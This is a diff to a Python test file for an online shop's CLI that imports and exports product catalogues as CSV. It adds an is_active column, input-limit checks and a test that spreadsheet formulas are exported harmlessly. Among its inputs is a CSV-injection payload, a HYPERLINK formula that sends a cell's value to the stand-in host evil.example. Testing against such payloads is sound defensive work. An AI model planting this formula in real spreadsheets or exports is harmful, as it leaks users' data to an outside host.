@@ -10,6 +10,7 @@ from entrypoints.cli.main import app
 from tests.e2e.test_cli import SECRET
 
 HEADER = "sku,name,description,price,stock\n"
+FULL_HEADER = "sku,name,description,price,stock,is_active\n"
 
 
 @pytest.fixture
@@ -39,10 +40,10 @@ def exported(runner: CliRunner) -> list[dict]:  # type: ignore[type-arg]
 
 def test_an_import_round_trips_through_export(runner: CliRunner, tmp_path: Path) -> None:
     catalog = (
-        HEADER
-        + 'MUG-1,"Enamel mug, blue","Holds 350 ml.\nDishwasher safe.",12.50,4\r\n'
-        + "CUP-2,Cup,,4.00,0\r\n"
-        + "TEA-3,Théière,Fonte émaillée,30.00,2\r\n"
+        FULL_HEADER
+        + 'MUG-1,"Enamel mug, blue","Holds 350 ml.\nDishwasher safe.",12.50,4,true\r\n'
+        + "CUP-2,Cup,,4.00,0,false\r\n"
+        + "TEA-3,Théière,Fonte émaillée,30.00,2,true\r\n"
     )
     first = emporium(runner, "products", "import", write(tmp_path / "in.csv", catalog))
     assert first.exit_code == 0, first.output
@@ -157,14 +158,17 @@ def test_export_to_a_file_is_whole_or_absent(
     )
     result = emporium(runner, "products", "export", "--output", str(tmp_path / "out.csv"))
     assert result.exit_code == 0 and result.stdout == ""
-    assert (tmp_path / "out.csv").read_text().splitlines() == [HEADER.strip(), "MUG-1,Mug,,1.00,1"]
+    assert (tmp_path / "out.csv").read_text().splitlines() == [
+        FULL_HEADER.strip(),
+        "MUG-1,Mug,,1.00,1,true",
+    ]
     nowhere = emporium(runner, "products", "export", "--output", str(tmp_path / "no" / "x.csv"))
     assert nowhere.exit_code == 1 and "cannot write" in nowhere.stderr
     # A failed export leaves the last good file as it was, and no partial one.
     monkeypatch.setenv("EMPORIUM_DATABASE_URL", f"sqlite+aiosqlite:///{tmp_path / 'new.db'}")
     failed = emporium(runner, "products", "export", "--output", str(tmp_path / "out.csv"))
     assert failed.exit_code == 1 and "emporium db upgrade" in failed.stderr
-    assert (tmp_path / "out.csv").read_text().splitlines()[1] == "MUG-1,Mug,,1.00,1"
+    assert (tmp_path / "out.csv").read_text().splitlines()[1] == "MUG-1,Mug,,1.00,1,true"
     assert not [p for p in tmp_path.iterdir() if "partial" in p.name]
 
 
@@ -179,3 +183,72 @@ def test_seeding_the_demo_twice_changes_nothing_the_second_time(runner: CliRunne
     assert "password" not in second.stderr and exported(runner) == products
     users = emporium(runner, "users", "list", "--json").stdout.splitlines()
     assert sorted(json.loads(u)["role"] for u in users) == ["admin"] + ["customer"] * 3
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1)', "+SUM(1)", "-2+3", "@SUM(1)", "'=quoted"]
+
+
+def test_cells_a_spreadsheet_would_run_are_exported_inert_and_import_back_exact(
+    runner: CliRunner, tmp_path: Path
+) -> None:
+    # As a person would type them (the last one escaped, as the export writes it).
+    cells = [*FORMULAS[:-1], "''=quoted"]
+    rows = "".join(f'F-{n},"{cell.replace(chr(34), chr(34) * 2)}",,1.00,1\n'
+                   for n, cell in enumerate(cells))  # fmt: skip
+    assert emporium(runner, "products", "import", write(tmp_path / "in.csv", HEADER + rows))
+    result = emporium(runner, "products", "export")
+    cells = [line.split(",", 2)[1] for line in result.stdout.splitlines()[1:]]
+    assert all(cell.lstrip('"').startswith("'") for cell in cells), cells
+    again = emporium(runner, "products", "import", write(tmp_path / "out.csv", result.stdout))
+    assert again.exit_code == 0 and "0 created, 0 updated, 5 unchanged" in again.stderr
+    assert [p["name"] for p in exported(runner)] == FORMULAS
+
+
+def test_archiving_survives_export_and_import(runner: CliRunner, tmp_path: Path) -> None:
+    rows = "OLD-1,Old,,1.00,1,false\nNEW-2,New,,1.00,1,TRUE\n"
+    emporium(runner, "products", "import", write(tmp_path / "a.csv", FULL_HEADER + rows))
+    assert {p["sku"]: p["is_active"] for p in exported(runner)} == {"OLD-1": False, "NEW-2": True}
+    # Without the column an existing product keeps its state.
+    emporium(
+        runner, "products", "import", write(tmp_path / "b.csv", HEADER + "OLD-1,Old,,2.00,1\n")
+    )
+    assert {p["sku"]: p["is_active"] for p in exported(runner)}["OLD-1"] is False
+    bad = emporium(
+        runner,
+        "products",
+        "import",
+        write(tmp_path / "c.csv", FULL_HEADER + "X-1,X,,1.00,1,maybe\n"),
+    )
+    assert bad.exit_code == 1 and "line 2: row: is_active is true or false" in bad.stderr
+    back = emporium(
+        runner,
+        "products",
+        "import",
+        write(tmp_path / "d.csv", FULL_HEADER + "OLD-1,Old,,2.00,1,true\n"),
+    )
+    assert back.exit_code == 0 and "1 updated" in back.stderr
+    assert all(p["is_active"] for p in exported(runner))
+
+
+def test_a_description_with_spreadsheet_line_breaks_imports(
+    runner: CliRunner, tmp_path: Path
+) -> None:
+    path = write(tmp_path / "in.csv", HEADER + 'MUG-1,Mug,"Line one\r\nLine two",1.00,1\r\n')
+    result = emporium(runner, "products", "import", path)
+    assert result.exit_code == 0, result.stderr
+    assert exported(runner)[0]["description"] == "Line one\nLine two"
+
+
+def test_a_header_only_file_says_it_did_nothing(runner: CliRunner, tmp_path: Path) -> None:
+    result = emporium(runner, "products", "import", write(tmp_path / "in.csv", HEADER))
+    assert result.exit_code == 0
+    assert "0 created, 0 updated, 0 unchanged, 0 rejected" in result.stderr
+
+
+def test_what_is_not_a_csv_file_is_refused_at_once(runner: CliRunner, tmp_path: Path) -> None:
+    device = emporium(runner, "products", "import", "/dev/zero")
+    assert device.exit_code == 1 and "/dev/zero is not a regular file" in device.stderr
+    endless = write(tmp_path / "blob.csv", HEADER + "A" * 200_000)
+    result = emporium(runner, "products", "import", endless)
+    assert result.exit_code == 1 and "line 2 is over 65536 characters" in result.stderr
+    assert "Traceback" not in result.output
